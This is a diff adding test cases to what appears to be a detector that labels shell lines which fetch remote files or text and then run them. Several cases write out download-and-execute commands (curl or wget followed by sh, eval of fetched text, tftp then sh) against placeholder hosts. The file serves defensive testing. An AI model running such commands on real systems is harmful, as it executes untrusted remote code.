@@ -28,6 +28,11 @@ describe("a shell line", () => {
       "fetches a file and runs it",
     ],
     ["curl -o /tmp/a.tgz https://example.test/a.tgz && tar xf /tmp/a.tgz", undefined],
+    ["curl -sL https://example.test/a.tgz | tar xz && ./a/install.sh", "fetches a file and runs it"],
+    ["wget -q https://example.test/a.zip && unzip -q a.zip && sh setup.sh", "fetches a file and runs it"],
+    ["curl -sL https://example.test/a.tgz | tar xz -C /usr/local && tool --version", undefined],
+    ["unzip -q a.zip && sh setup.sh; curl -s https://example.test", undefined],
+    ['x=$(curl -s https://example.test/t); eval "$x"', "fetches text and runs it"],
     ["tftp -g -r a 192.0.2.1; sh a", "fetches a file and runs it"],
     [
       "python3 -c import urllib.request as u;exec(u.urlopen('https://example.test/p').read())",
